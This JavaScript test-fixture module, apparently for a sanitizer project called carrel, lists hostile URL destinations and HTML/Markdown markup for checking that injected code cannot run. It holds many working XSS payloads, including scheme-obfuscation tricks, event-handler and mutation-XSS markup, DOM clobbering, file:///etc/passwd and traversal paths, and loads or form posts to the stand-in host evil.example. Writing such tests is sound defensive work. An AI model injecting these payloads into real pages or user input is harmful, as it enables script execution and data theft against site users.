// Hostile inputs of carrel's own, so that hostile_test.mjs has work without the shared suites. Each that could run sets `hostileRan`.
const RUN = 'window.hostileRan=1';

/** Destinations that run code, or reach a place they must not, where a scheme is not judged as browsers read it. */
export const DESTINATIONS = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`, `java\tscript:${RUN}`, `java&#9;script:${RUN}`,
  `java&NewLine;script:${RUN}`, `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`, `&#x6A&#x61vascript:${RUN}`, `&#0000106avascript:${RUN}`,
  `javascript\\:${RUN}`, `%6aavascript:${RUN}`, `javascript:%0a${RUN}`, `javascript://a.example/%0a${RUN}`, `vbscript:${RUN}`, `livescript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, 'data:text/html;base64,PHNjcmlwdD5ob3N0aWxlUmFuPTE8L3NjcmlwdD4=', `data:image/svg+xml,<svg onload="${RUN}"/>`,
  'blob:https://a.example/1', 'file:///etc/passwd', 'filesystem:https://a.example/temporary/x', 'view-source:https://a.example', 'about:blank', 'ws://a.example',
  'intent://a.example#Intent;end', 'ms-settings:', '//evil.example/x', '\\\\evil.example\\x', '/\\evil.example', 'https:evil.example', 'http:/\\evil.example',
  'https://user:pass@evil.example', '#/post/none"onmouseover="x', '#', '?', '../../../../etc/passwd', `\u2028javascript:${RUN}`, `\uFEFFjavascript:${RUN}`,
];

/** Markup that runs code, takes over names, or breaks out of where it stands. */
export const MARKUP = [
  `<script>${RUN}</script>`, `<script src=//evil.example/x.js></script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script/x>${RUN}</script/x>`,
  `</script><script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}"//`, `<img/src=x/onerror=${RUN}>`, `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`, `<svg><animate onbegin=${RUN} attributeName=x>`, `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<math href="javascript:${RUN}">x</math>`, `<body onload=${RUN}>`, `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`, `<audio src=x onerror=${RUN}>`, `<iframe srcdoc="<script>parent.hostileRan=1</script>"></iframe>`, `<iframe src="javascript:${RUN}">`,
  `<object data="javascript:${RUN}">`, `<embed src="data:text/html,x">`, `<link rel=stylesheet href=//evil.example/x.css>`, `<style>@import "//evil.example/x.css";</style>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`, `<base href="https://evil.example/">`, `<form action="https://evil.example"><input name=x autofocus onfocus=${RUN}><button>b</button></form>`,
  `<input type=image src=x onerror=${RUN}>`, `<button formaction="javascript:${RUN}">x</button>`, `<a href="https://a.example" onclick=${RUN} ping="https://evil.example" target=_blank>x</a>`,
  `<a id=app name=location href="https://a.example">x</a>`, '<p id=post-title>x</p>', '<form id=document><input name=body></form>', '<img name=cookie src=https://a.example/x>',
  `<template><script>${RUN}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<xmp><img src=x onerror=${RUN}></xmp>`, `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><img src=x onerror=${RUN}>`, `<!--><img src=x onerror=${RUN}>-->`, `<!-- --!><img src=x onerror=${RUN}> -->`, `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<?x ><img src=x onerror=${RUN}>?>`,
  `<div style="background:url(https://evil.example/x)">x</div>`, `<div style="position:fixed;inset:0">x</div>`, `<table background="https://evil.example/x"><td background="//evil.example/y">x</td></table>`,
  `<b/onclick=${RUN}>x</b>`, `<b\fonclick=${RUN}>x</b>`, `<b title="x"onclick=${RUN}>x</b>`, `<b title='"onclick=${RUN} "'>x</b>`, `<b \u0000onclick=${RUN}>x</b>`, '<custom-element is="x-y">x</custom-element>',
  `<portal src="javascript:${RUN}">`, `<marquee onstart=${RUN}>x</marquee>`, `<select><option onclick=${RUN}>x</select>`, `<a href="javascript:${RUN}" href="https://a.example">x</a>`,
  `"><img src=x onerror=${RUN}>`, `'><svg/onload=${RUN}>`, `\`\`\`"onmouseover="${RUN}`, `x" onerror="${RUN}`, `{{constructor.constructor('${RUN}')()}}`, '<slot name=x>', '<p contenteditable autofocus>x</p>',
  `[x](javascript:${RUN})`, `[x](<javascript:${RUN}>)`, `![x](javascript:${RUN})`, `![x" onerror="${RUN}](https://a.example/x.png)`, `[x](https://a.example "\\" onclick=\\"${RUN}")`, `<javascript:${RUN}>`,
  `[x]\n\n[x]: javascript:${RUN}`, `[![x](javascript:${RUN})](javascript:${RUN})`, `[x](https://a.example/"onmouseover="${RUN})`, `<https://a.example/"onclick="${RUN}>`, `https://a.example/"onclick="${RUN}`,
  `www.a.example/'><img src=x onerror=${RUN}>`, `a"onclick="x@a.example`, `x[^"><img src=x onerror=${RUN}>]`, '# __proto__', '# constructor', '## post-title',
  '\u202Etxt.exe\u202C <b>\u2066x</b>', `<a href="&#x6A;avascript&#58;${RUN}">x</a>`, `<a href="\u0001javascript:${RUN}">x</a>`, `<a href=javascript&colon;${RUN}>x</a>`,
];
